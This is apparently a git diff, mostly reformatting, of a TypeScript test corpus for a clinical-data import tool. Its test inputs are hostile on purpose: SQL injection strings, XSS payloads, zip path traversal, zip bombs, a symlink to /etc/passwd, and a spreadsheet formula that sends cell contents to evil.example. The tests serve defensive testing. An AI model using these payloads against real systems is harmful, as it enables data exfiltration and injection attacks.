@@ -78,7 +78,11 @@ function folder(files: Record<string, string | Buffer | Uint8Array>) {
 const bytes = (s: string | Buffer) => (typeof s === 'string' ? new TextEncoder().encode(s) : new Uint8Array(s));
 
 function zip(entries: Record<string, string | Buffer | Uint8Array>, level = 6): Buffer {
-	return Buffer.from(zipSync(Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, typeof v === 'string' || Buffer.isBuffer(v) ? bytes(v) : v])), { level: level as 6 }));
+	return Buffer.from(
+		zipSync(Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, typeof v === 'string' || Buffer.isBuffer(v) ? bytes(v) : v])), {
+			level: level as 6
+		})
+	);
 }
 
 function zipFile(make: () => Buffer | Promise<Buffer>) {
@@ -115,7 +119,14 @@ const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a
 const SQL_1 = "x'); drop table ferry.audit;--";
 const SQL_2 = '"; DROP VIEW raw.patients; --';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+61 400 000 000', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rCarriage'];
+const FORMULAS = [
+	'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+	'+61 400 000 000',
+	'-2+3',
+	'@SUM(A1:A9)',
+	'\tTabbed',
+	'\rCarriage'
+];
 
 const HTML = ['<script>alert("x")</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '<b>bold</b> &amp; <i>it</i>'];
 
@@ -134,7 +145,11 @@ export const corpus: CorpusItem[] = [
 		name: 'truncated mid-row',
 		about: 'the export was cut off in the middle of its last row',
 		build: folder({ 'patients.csv': HEADER + '\n' + rows(20).join('\n') + '\n21,Ann' }),
-		expect: { files: [{ file: 'patients.csv', status: 'staged', rows: 21, quarantined: 1, reasons: [/expected 4 fields, found 2/], table: 'patients' }] }
+		expect: {
+			files: [
+				{ file: 'patients.csv', status: 'staged', rows: 21, quarantined: 1, reasons: [/expected 4 fields, found 2/], table: 'patients' }
+			]
+		}
 	},
 	{
 		name: 'truncated mid-quote',
@@ -145,12 +160,28 @@ export const corpus: CorpusItem[] = [
 	{
 		name: 'truncated mid-multibyte character',
 		about: 'cut between the two bytes of ü: the file is UTF-8 but its last character is half there',
-		build: folder({ 'patients.csv': Buffer.concat([Buffer.from(HEADER + '\n1,José,Lee,j@x.com\n2,Zoë,Ng,z@x.com\n3,Ann,M'), Buffer.from([0xc3])]) }),
+		build: folder({
+			'patients.csv': Buffer.concat([Buffer.from(HEADER + '\n1,José,Lee,j@x.com\n2,Zoë,Ng,z@x.com\n3,Ann,M'), Buffer.from([0xc3])])
+		}),
 		expect: {
-			files: [{ file: 'patients.csv', status: 'staged', rows: 3, quarantined: 1, reasons: [/cut inside a character/], encoding: 'utf-8', warnings: [/cut short/], table: 'patients' }]
+			files: [
+				{
+					file: 'patients.csv',
+					status: 'staged',
+					rows: 3,
+					quarantined: 1,
+					reasons: [/cut inside a character/],
+					encoding: 'utf-8',
+					warnings: [/cut short/],
+					table: 'patients'
+				}
+			]
 		},
 		check: async ({ ws }) => {
-			expect(await rawRows(ws, `select first_name from raw.patients order by patient_id`)).toEqual([{ first_name: 'José' }, { first_name: 'Zoë' }]);
+			expect(await rawRows(ws, `select first_name from raw.patients order by patient_id`)).toEqual([
+				{ first_name: 'José' },
+				{ first_name: 'Zoë' }
+			]);
 		}
 	},
 	{
@@ -167,7 +198,10 @@ export const corpus: CorpusItem[] = [
 		about: 'a workbook cut short; the CSV beside it still imports',
 		build: async (dir) => {
 			const book = await patientsBook();
-			return write(path.join(dir, 'export'), { 'workbook.xlsx': book.subarray(0, Math.floor(book.length * 0.6)), 'staff.csv': 'Staff ID,Name\nS1,Kim\n' });
+			return write(path.join(dir, 'export'), {
+				'workbook.xlsx': book.subarray(0, Math.floor(book.length * 0.6)),
+				'staff.csv': 'Staff ID,Name\nS1,Kim\n'
+			});
 		},
 		expect: {
 			files: [
@@ -177,7 +211,9 @@ export const corpus: CorpusItem[] = [
 		},
 		check: async ({ ws }) => {
 			// No half-read sheet left behind as a table.
-			expect(await rawRows(ws, `select view_name from duckdb_views() where schema_name = 'raw' order by 1`)).toEqual([{ view_name: 'staff' }]);
+			expect(await rawRows(ws, `select view_name from duckdb_views() where schema_name = 'raw' order by 1`)).toEqual([
+				{ view_name: 'staff' }
+			]);
 		}
 	},
 
@@ -197,8 +233,24 @@ export const corpus: CorpusItem[] = [
 	{
 		name: 'Windows-1252 declared as UTF-8',
 		about: 'a UTF-8 byte-order mark in front of Windows-1252 bytes',
-		build: folder({ 'patients.csv': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode(csv([HEADER, '1,José,Lee,j@x.com', '2,Françoise,Ng,f@x.com']), 'win1252')]) }),
-		expect: { files: [{ file: 'patients.csv', status: 'staged', rows: 2, encoding: 'windows-1252', warnings: [/byte-order mark but is not UTF-8/], table: 'patients' }] },
+		build: folder({
+			'patients.csv': Buffer.concat([
+				Buffer.from([0xef, 0xbb, 0xbf]),
+				iconv.encode(csv([HEADER, '1,José,Lee,j@x.com', '2,Françoise,Ng,f@x.com']), 'win1252')
+			])
+		}),
+		expect: {
+			files: [
+				{
+					file: 'patients.csv',
+					status: 'staged',
+					rows: 2,
+					encoding: 'windows-1252',
+					warnings: [/byte-order mark but is not UTF-8/],
+					table: 'patients'
+				}
+			]
+		},
 		check: async ({ ws }) => {
 			expect(await rawRows(ws, `select patient_id, first_name from raw.patients order by 1`)).toEqual([
 				{ patient_id: '1', first_name: 'José' },
@@ -209,10 +261,15 @@ export const corpus: CorpusItem[] = [
 	{
 		name: 'UTF-16 LE without a BOM',
 		about: 'a "Unicode text" save with the byte-order mark stripped',
-		build: folder({ 'patients.txt': iconv.encode(csv([HEADER.replaceAll(',', '\t'), '1\tZoë\tLee\tz@x.com', '2\tBjörk\tNg\tb@x.com'], '\r\n'), 'utf-16le') }),
+		build: folder({
+			'patients.txt': iconv.encode(csv([HEADER.replaceAll(',', '\t'), '1\tZoë\tLee\tz@x.com', '2\tBjörk\tNg\tb@x.com'], '\r\n'), 'utf-16le')
+		}),
 		expect: { files: [{ file: 'patients.txt', status: 'staged', rows: 2, encoding: 'utf-16le', table: 'patients' }] },
 		check: async ({ ws }) => {
-			expect(await rawRows(ws, `select first_name from raw.patients order by patient_id`)).toEqual([{ first_name: 'Zoë' }, { first_name: 'Björk' }]);
+			expect(await rawRows(ws, `select first_name from raw.patients order by patient_id`)).toEqual([
+				{ first_name: 'Zoë' },
+				{ first_name: 'Björk' }
+			]);
 		}
 	},
 	{
@@ -247,10 +304,25 @@ export const corpus: CorpusItem[] = [
 			])
 		}),
 		expect: {
-			files: [{ file: 'patients.csv', status: 'staged', rows: 5, encoding: 'utf-8+windows-1252', warnings: [/mixed encodings: 2 line\(s\) read as UTF-8 and 2 as Windows-1252/], table: 'patients' }]
+			files: [
+				{
+					file: 'patients.csv',
+					status: 'staged',
+					rows: 5,
+					encoding: 'utf-8+windows-1252',
+					warnings: [/mixed encodings: 2 line\(s\) read as UTF-8 and 2 as Windows-1252/],
+					table: 'patients'
+				}
+			]
 		},
 		check: async ({ ws }) => {
-			expect((await rawRows(ws, `select first_name from raw.patients order by patient_id`)).map((r) => r.first_name)).toEqual(['José', 'Zoë', 'José', 'Françoise', 'Plain']);
+			expect((await rawRows(ws, `select first_name from raw.patients order by patient_id`)).map((r) => r.first_name)).toEqual([
+				'José',
+				'Zoë',
+				'José',
+				'Françoise',
+				'Plain'
+			]);
 		}
 	},
 
@@ -273,7 +345,12 @@ export const corpus: CorpusItem[] = [
 		check: async ({ ws }) => {
 			// Kept as text, exactly as written.
 			expect((await rawRows(ws, `select date_of_birth from raw.patients order by patient_id`)).map((r) => r.date_of_birth)).toEqual([
-				'25/12/1980', '12/25/1980', '03/04/1980', '1980-12-25', '31/02/1980', 'not known'
+				'25/12/1980',
+				'12/25/1980',
+				'03/04/1980',
+				'1980-12-25',
+				'31/02/1980',
+				'not known'
 			]);
 		}
 	},
@@ -284,10 +361,25 @@ export const corpus: CorpusItem[] = [
 		about: 'Email three times (in three spellings) and a header that collides with a renamed one',
 		build: folder({ 'patients.csv': csv(['Patient ID,Email,Email,EMAIL,Email_2', '1,a@x.com,b@x.com,c@x.com,d@x.com', '2,e@x.com,,,']) }),
 		expect: {
-			files: [{ file: 'patients.csv', status: 'staged', rows: 2, table: 'patients', warnings: [/header 'Email' repeats \(column 3\); named email_2/, /header 'EMAIL' repeats \(column 4\); named email_3/, /header 'Email_2' repeats/] }]
+			files: [
+				{
+					file: 'patients.csv',
+					status: 'staged',
+					rows: 2,
+					table: 'patients',
+					warnings: [
+						/header 'Email' repeats \(column 3\); named email_2/,
+						/header 'EMAIL' repeats \(column 4\); named email_3/,
+						/header 'Email_2' repeats/
+					]
+				}
+			]
 		},
 		check: async ({ ws, snapshotId }) => {
-			const cols = await rawRows(ws, `select name, original_name from ferry.snapshot_columns where snapshot_id = ${snapshotId} order by position`);
+			const cols = await rawRows(
+				ws,
+				`select name, original_name from ferry.snapshot_columns where snapshot_id = ${snapshotId} order by position`
+			);
 			expect(cols.map((c) => c.original_name)).toEqual(['Patient ID', 'Email', 'Email', 'EMAIL', 'Email_2']);
 			expect(new Set(cols.map((c) => c.name)).size).toBe(5);
 			expect(await rawRows(ws, `select * from raw.patients where patient_id = '1'`)).toEqual([
@@ -300,7 +392,15 @@ export const corpus: CorpusItem[] = [
 		about: 'blank header cells between named ones',
 		build: folder({ 'patients.csv': csv([',First Name,,Email', '1,Ann,x,a@x.com', '2,Bo,y,b@x.com']) }),
 		expect: {
-			files: [{ file: 'patients.csv', status: 'staged', rows: 2, table: 'patients', warnings: [/column 1 has no header; named column_1/, /column 3 has no header; named column_3/] }]
+			files: [
+				{
+					file: 'patients.csv',
+					status: 'staged',
+					rows: 2,
+					table: 'patients',
+					warnings: [/column 1 has no header; named column_1/, /column 3 has no header; named column_3/]
+				}
+			]
 		},
 		check: async ({ ws }) => {
 			expect(await rawRows(ws, `select * from raw.patients order by column_1`)).toEqual([
@@ -313,9 +413,16 @@ export const corpus: CorpusItem[] = [
 		name: 'giant cells',
 		about: 'a 17 MiB cell (over the record limit) and a 2 MiB note (under it)',
 		build: folder({
-			'notes.csv': csv(['Note ID,Patient ID,Body', `1,1,${'x'.repeat(17 * 1024 * 1024)}`, `2,1,${q('long '.repeat(400 * 1024))}`, '3,2,short'])
+			'notes.csv': csv([
+				'Note ID,Patient ID,Body',
+				`1,1,${'x'.repeat(17 * 1024 * 1024)}`,
+				`2,1,${q('long '.repeat(400 * 1024))}`,
+				'3,2,short'
+			])
 		}),
-		expect: { files: [{ file: 'notes.csv', status: 'staged', rows: 3, quarantined: 1, reasons: [/record longer than 16777216/], table: 'notes' }] },
+		expect: {
+			files: [{ file: 'notes.csv', status: 'staged', rows: 3, quarantined: 1, reasons: [/record longer than 16777216/], table: 'notes' }]
+		},
 		check: async ({ ws }) => {
 			expect(await rawRows(ws, `select note_id, length(body)::int as n from raw.notes order by 1`)).toEqual([
 				{ note_id: '2', n: 5 * 400 * 1024 },
@@ -330,11 +437,17 @@ export const corpus: CorpusItem[] = [
 		name: '10 000 columns',
 		about: 'a header 10 000 columns wide',
 		build: folder({
-			'wide.csv': csv([Array.from({ length: 10_000 }, (_, i) => `Field ${i}`).join(','), Array.from({ length: 10_000 }, (_, i) => `a${i}`).join(','), Array.from({ length: 10_000 }, (_, i) => `b${i}`).join(',')])
+			'wide.csv': csv([
+				Array.from({ length: 10_000 }, (_, i) => `Field ${i}`).join(','),
+				Array.from({ length: 10_000 }, (_, i) => `a${i}`).join(','),
+				Array.from({ length: 10_000 }, (_, i) => `b${i}`).join(',')
+			])
 		}),
 		expect: { files: [{ file: 'wide.csv', status: 'staged', rows: 2, table: 'wide' }] },
 		check: async ({ ws, snapshotId }) => {
-			expect(await rawRows(ws, `select count(*)::int as n from ferry.snapshot_columns where snapshot_id = ${snapshotId} and table_name = 'wide'`)).toEqual([{ n: 10_000 }]);
+			expect(
+				await rawRows(ws, `select count(*)::int as n from ferry.snapshot_columns where snapshot_id = ${snapshotId} and table_name = 'wide'`)
+			).toEqual([{ n: 10_000 }]);
 			expect(await rawRows(ws, `select field_9999 from raw.wide order by 1`)).toEqual([{ field_9999: 'a9999' }, { field_9999: 'b9999' }]);
 		}
 	},
@@ -342,7 +455,18 @@ export const corpus: CorpusItem[] = [
 		name: 'a row with a million fields',
 		about: 'one row of 1 000 000 comma-separated fields in a 4-column file',
 		build: folder({ 'patients.csv': csv([HEADER, ...rows(5), Array(1_000_000).fill('x').join(','), ...rows(5, 6)]) }),
-		expect: { files: [{ file: 'patients.csv', status: 'staged', rows: 11, quarantined: 1, reasons: [/expected 4 fields, found 1000000/], table: 'patients' }] },
+		expect: {
+			files: [
+				{
+					file: 'patients.csv',
+					status: 'staged',
+					rows: 11,
+					quarantined: 1,
+					reasons: [/expected 4 fields, found 1000000/],
+					table: 'patients'
+				}
+			]
+		},
 		check: async ({ ws }) => {
 			const [r] = await rawRows(ws, `select line from ferry.rejects`);
 			expect(Number(r.line)).toBe(7);
@@ -362,17 +486,29 @@ export const corpus: CorpusItem[] = [
 			]
 		},
 		check: async ({ ws }) => {
-			expect((await rawRows(ws, `select address from raw.lf order by patient_id`)).map((r) => r.address)).toEqual(['1 Main St\r\nUnit 2', 'Line\r\n\r\nGap', 'plain']);
-			expect((await rawRows(ws, `select address from raw.crlf order by patient_id`)).map((r) => r.address)).toEqual(['1 Main St\r\nUnit 2', 'a\nb']);
+			expect((await rawRows(ws, `select address from raw.lf order by patient_id`)).map((r) => r.address)).toEqual([
+				'1 Main St\r\nUnit 2',
+				'Line\r\n\r\nGap',
+				'plain'
+			]);
+			expect((await rawRows(ws, `select address from raw.crlf order by patient_id`)).map((r) => r.address)).toEqual([
+				'1 Main St\r\nUnit 2',
+				'a\nb'
+			]);
 		}
 	},
 	{
 		name: 'NUL bytes in a text file',
 		about: 'two stray NUL bytes in the middle of an otherwise clean CSV',
 		build: folder({ 'patients.csv': csv([HEADER, ...rows(10), '11,An\0n,Lee,a@x.com', ...rows(10, 12), '22,Bo,N\0g,b@x.com']) }),
-		expect: { files: [{ file: 'patients.csv', status: 'staged', rows: 22, quarantined: 2, reasons: [/NUL byte/, /NUL byte/], table: 'patients' }] },
+		expect: {
+			files: [{ file: 'patients.csv', status: 'staged', rows: 22, quarantined: 2, reasons: [/NUL byte/, /NUL byte/], table: 'patients' }]
+		},
 		check: async ({ ws }) => {
-			expect((await rawRows(ws, `select raw from ferry.rejects order by line`)).map((r) => r.raw)).toEqual(['11,An\u2400n,Lee,a@x.com', '22,Bo,N\u2400g,b@x.com']);
+			expect((await rawRows(ws, `select raw from ferry.rejects order by line`)).map((r) => r.raw)).toEqual([
+				'11,An\u2400n,Lee,a@x.com',
+				'22,Bo,N\u2400g,b@x.com'
+			]);
 		}
 	},
 	{
@@ -392,10 +528,19 @@ export const corpus: CorpusItem[] = [
 		name: 'binary files named .csv',
 		about: 'a PNG, random bytes and a workbook, each saved as .csv',
 		build: async (dir) =>
-			write(path.join(dir, 'export'), { 'photo.csv': PNG, 'random.csv': noise(64 * 1024), 'book.csv': await patientsBook(), 'staff.csv': 'Staff ID,Name\nS1,Kim\n' }),
+			write(path.join(dir, 'export'), {
+				'photo.csv': PNG,
+				'random.csv': noise(64 * 1024),
+				'book.csv': await patientsBook(),
+				'staff.csv': 'Staff ID,Name\nS1,Kim\n'
+			}),
 		expect: {
 			files: [
-				{ file: 'book.csv', status: 'rejected', error: /^book\.csv is binary: its content is a zip archive \(or an \.xlsx\/\.docx saved under the wrong name\), not text$/ },
+				{
+					file: 'book.csv',
+					status: 'rejected',
+					error: /^book\.csv is binary: its content is a zip archive \(or an \.xlsx\/\.docx saved under the wrong name\), not text$/
+				},
 				{ file: 'photo.csv', status: 'rejected', error: /^photo\.csv is binary: its content is a PNG image, not text$/ },
 				{ file: 'random.csv', status: 'rejected', error: /^random\.csv is binary/ },
 				{ file: 'staff.csv', status: 'staged', rows: 1 }
@@ -432,11 +577,14 @@ export const corpus: CorpusItem[] = [
 		name: 'only unrelated files',
 		about: 'a folder of PDFs, images and a Word file at the top level',
 		build: folder({ 'report.pdf': '%PDF-1.4 x', 'logo.png': PNG, 'letter.docx': noise(100), '.DS_Store': 'x' }),
-		expect: { error: /^nothing to import: the export holds no CSV, TSV, TXT, XLSX or JSON table files at its top level \(letter\.docx has an unsupported file type '\.docx'.*report\.pdf/ }
+		expect: {
+			error:
+				/^nothing to import: the export holds no CSV, TSV, TXT, XLSX or JSON table files at its top level \(letter\.docx has an unsupported file type '\.docx'.*report\.pdf/
+		}
 	},
 	{
 		name: 'symlinks in the folder',
-		about: "links to files outside the export, as a table and as a document: never followed",
+		about: 'links to files outside the export, as a table and as a document: never followed',
 		build: (dir) => {
 			const root = write(path.join(dir, 'export'), { 'patients.csv': csv([HEADER, ...rows(3)]), 'files/p1/card.txt': 'scan' });
 			fs.symlinkSync('/etc/passwd', path.join(root, 'staff.csv'));
@@ -461,7 +609,7 @@ export const corpus: CorpusItem[] = [
 
 	// Zips ---------------------------------------------------------------------------------
 	{
-		name: "zip entry with ../",
+		name: 'zip entry with ../',
 		about: 'an entry that would be written two folders above the export',
 		build: zipFile(() => zip({ 'export/patients.csv': csv([HEADER, ...rows(2)]), '../../evil.csv': 'x' })),
 		expect: { error: /^zip entry '\.\.\/\.\.\/evil\.csv' points outside the export folder; refusing the whole zip$/ }
@@ -480,24 +628,39 @@ export const corpus: CorpusItem[] = [
 	},
 	{
 		name: 'zip bomb (ratio)',
-		about: 'one entry of 80 MiB of zeros, compressed a thousandfold (entries under 64 MiB pass whatever their ratio: a padded 25 MB scan is no bomb)',
+		about:
+			'one entry of 80 MiB of zeros, compressed a thousandfold (entries under 64 MiB pass whatever their ratio: a padded 25 MB scan is no bomb)',
 		build: zipFile(() => zip({ 'export/patients.csv': new Uint8Array(80 * 1024 * 1024) }, 9)),
-		expect: { error: /^zip entry 'export\/patients\.csv' inflates more than 200× its compressed size: a zip bomb\? refusing the whole zip$/ }
+		expect: {
+			error: /^zip entry 'export\/patients\.csv' inflates more than 200× its compressed size: a zip bomb\? refusing the whole zip$/
+		}
 	},
 	{
 		name: 'zip bomb (total)',
 		about: 'entries each harmless, together over the total limit (lowered to 1 MiB here)',
 		limits: { maxZipBytes: 1024 * 1024 },
-		build: zipFile(() => zip(Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`export/part${i}.csv`, `Id,Blob\n1,${noise(150 * 1024, `z${i}`).toString('hex')}\n`])))),
+		build: zipFile(() =>
+			zip(
+				Object.fromEntries(
+					Array.from({ length: 6 }, (_, i) => [`export/part${i}.csv`, `Id,Blob\n1,${noise(150 * 1024, `z${i}`).toString('hex')}\n`])
+				)
+			)
+		),
 		expect: { error: /^the zip inflates to more than 1048576 bytes, the limit; refusing the whole zip$/ }
 	},
 	{
 		name: 'nested zip',
 		about: 'a zip inside the zip beside the tables',
-		build: zipFile(() => zip({ 'export/patients.csv': csv([HEADER, ...rows(4)]), 'export/more.zip': zip({ 'staff.csv': 'Staff ID,Name\nS1,Kim\n' }) })),
+		build: zipFile(() =>
+			zip({ 'export/patients.csv': csv([HEADER, ...rows(4)]), 'export/more.zip': zip({ 'staff.csv': 'Staff ID,Name\nS1,Kim\n' }) })
+		),
 		expect: {
 			files: [
-				{ file: 'more.zip', status: 'rejected', error: /^more\.zip is a zip inside the export: Ferry does not open archives within archives/ },
+				{
+					file: 'more.zip',
+					status: 'rejected',
+					error: /^more\.zip is a zip inside the export: Ferry does not open archives within archives/
+				},
 				{ file: 'patients.csv', status: 'staged', rows: 4, table: 'patients' }
 			]
 		}
@@ -510,7 +673,11 @@ export const corpus: CorpusItem[] = [
 		build: folder({
 			'patients.csv': csv([HEADER, ...FORMULAS.map((f, i) => `${i + 1},${q(f)},Lee,p${i}@x.com`), `99,${q('=1+1')},short`]),
 			// Staff ids and emails come back out in the invitation list (CSV).
-			'staff.csv': csv(['Staff ID,First Name,Last Name,Email', `${q('=HYPERLINK("http://evil.example","x")')},Kim,Ng,+kim@clinic.example`, `@S2,Bo,Li,-bo@clinic.example`])
+			'staff.csv': csv([
+				'Staff ID,First Name,Last Name,Email',
+				`${q('=HYPERLINK("http://evil.example","x")')},Kim,Ng,+kim@clinic.example`,
+				`@S2,Bo,Li,-bo@clinic.example`
+			])
 		}),
 		expect: {
 			files: [
@@ -519,17 +686,26 @@ export const corpus: CorpusItem[] = [
 			]
 		},
 		check: async ({ ws, call, wsName, snapshotId }) => {
-			expect((await rawRows(ws, `select first_name from raw.patients order by patient_id::int`)).map((r) => r.first_name)).toEqual(FORMULAS);
+			expect((await rawRows(ws, `select first_name from raw.patients order by patient_id::int`)).map((r) => r.first_name)).toEqual(
+				FORMULAS
+			);
 			const rejects = await (await call(`/workspaces/${wsName}/snapshots/${snapshotId}/rejects`)).json();
 			expect(rejects.rows[0].raw).toBe('99,"=1+1",short');
 			// Written back out, every formula-looking cell is text (a leading apostrophe), never a formula.
 			const { createSandbox } = await import('../../src/lib/server/sandbox/index.js');
 			const twenty = await createSandbox({ apiKey: 'corpus-key-0123456789', rateLimit: false }).listen(0, '127.0.0.1');
 			try {
-				expect((await call(`/workspaces/${wsName}/target`, { method: 'PUT', json: { url: twenty.url, apiKey: 'corpus-key-0123456789' } })).status).toBe(200);
+				expect(
+					(await call(`/workspaces/${wsName}/target`, { method: 'PUT', json: { url: twenty.url, apiKey: 'corpus-key-0123456789' } })).status
+				).toBe(200);
 				expect((await call(`/workspaces/${wsName}/mapping/staff`, { method: 'POST', json: {} })).status).toBe(200);
 				const text = await (await call(`/workspaces/${wsName}/mapping/staff/invitations.csv`)).text();
-				expect(text.split('\r\n')).toEqual(['staff id,email', `"'=HYPERLINK(""http://evil.example"",""x"")",'+kim@clinic.example`, `'@S2,'-bo@clinic.example`, '']);
+				expect(text.split('\r\n')).toEqual([
+					'staff id,email',
+					`"'=HYPERLINK(""http://evil.example"",""x"")",'+kim@clinic.example`,
+					`'@S2,'-bo@clinic.example`,
+					''
+				]);
 			} finally {
 				await twenty.close();
 			}
@@ -551,10 +727,15 @@ export const corpus: CorpusItem[] = [
 		check: async ({ ws, call, wsName }) => {
 			expect((await rawRows(ws, `select first_name from raw.patients order by patient_id`)).map((r) => r.first_name)).toEqual(HTML);
 			const { tableFromIPC } = await import('apache-arrow');
-			const res = await call(`/workspaces/${wsName}/query`, { method: 'POST', json: { sql: 'select body from raw.clinical_notes order by note_id' } });
+			const res = await call(`/workspaces/${wsName}/query`, {
+				method: 'POST',
+				json: { sql: 'select body from raw.clinical_notes order by note_id' }
+			});
 			expect(res.status).toBe(200);
 			expect(res.headers.get('content-type')).not.toMatch(/html/);
-			const bodies = tableFromIPC(new Uint8Array(await res.arrayBuffer())).getChild('body')!.toArray();
+			const bodies = tableFromIPC(new Uint8Array(await res.arrayBuffer()))
+				.getChild('body')!
+				.toArray();
 			expect([...bodies]).toEqual(HTML.map((h) => `<p>Seen today</p>\n${h}`));
 		}
 	},
@@ -572,8 +753,12 @@ export const corpus: CorpusItem[] = [
 			]
 		},
 		check: async ({ ws }) => {
-			expect(await rawRows(ws, `select * from raw.x_drop_table_ferry_audit`)).toEqual([{ id: '1', drop_view_raw_patients: SQL_1, note: SQL_2 }]);
-			expect(await rawRows(ws, `select first_name, last_name from raw.patients where patient_id = '4'`)).toEqual([{ first_name: SQL_1, last_name: SQL_2 }]);
+			expect(await rawRows(ws, `select * from raw.x_drop_table_ferry_audit`)).toEqual([
+				{ id: '1', drop_view_raw_patients: SQL_1, note: SQL_2 }
+			]);
+			expect(await rawRows(ws, `select first_name, last_name from raw.patients where patient_id = '4'`)).toEqual([
+				{ first_name: SQL_1, last_name: SQL_2 }
+			]);
 			expect((await rawRows(ws, `select count(*)::int as n from ferry.audit_log`))[0].n).toBeGreaterThan(0);
 		}
 	},
@@ -583,8 +768,14 @@ export const corpus: CorpusItem[] = [
 		build: async (dir) =>
 			write(path.join(dir, 'export'), {
 				'export.xlsx': await workbook((wb) => {
-					wb.addWorksheet(SQL_1).addRows([['Id', SQL_2], ['1', SQL_1]]);
-					wb.addWorksheet(SQL_2).addRows([['Patient ID', 'Name'], ['1', SQL_2]]);
+					wb.addWorksheet(SQL_1).addRows([
+						['Id', SQL_2],
+						['1', SQL_1]
+					]);
+					wb.addWorksheet(SQL_2).addRows([
+						['Patient ID', 'Name'],
+						['1', SQL_2]
+					]);
 				})
 			}),
 		expect: {
@@ -603,7 +794,12 @@ export const corpus: CorpusItem[] = [
 	{
 		name: "JSON that isn't records",
 		about: 'a bare string, an array of numbers, a single object',
-		build: folder({ 'scalar.json': '"hello"', 'numbers.json': '[1, 2, 3]', 'single.json': '{"id": "a1", "name": "Ann"}', 'staff.csv': 'Staff ID,Name\nS1,Kim\n' }),
+		build: folder({
+			'scalar.json': '"hello"',
+			'numbers.json': '[1, 2, 3]',
+			'single.json': '{"id": "a1", "name": "Ann"}',
+			'staff.csv': 'Staff ID,Name\nS1,Kim\n'
+		}),
 		expect: {
 			files: [
 				{ file: 'numbers.json', status: 'staged', rows: 3, table: 'numbers' },
@@ -638,7 +834,12 @@ export const corpus: CorpusItem[] = [
 			write(path.join(dir, 'export'), {
 				'invoices.xlsx': await workbook((wb) => {
 					const s = wb.addWorksheet('Invoices');
-					s.addRows([['Invoice ID', 'Patient ID', 'Amount', 'Total'], ['INV1', '1', 10, null], ['INV2', '1', 20, null], ['INV3', '2', 30, null]]);
+					s.addRows([
+						['Invoice ID', 'Patient ID', 'Amount', 'Total'],
+						['INV1', '1', 10, null],
+						['INV2', '1', 20, null],
+						['INV3', '2', 30, null]
+					]);
 					s.getCell('D2').value = { formula: 'SUM(C2:C3)', result: 30 } as ExcelJS.CellFormulaValue;
 					s.getCell('D4').value = { formula: 'C4*1.1', result: 33 } as ExcelJS.CellFormulaValue;
 					s.mergeCells('B2:B3');
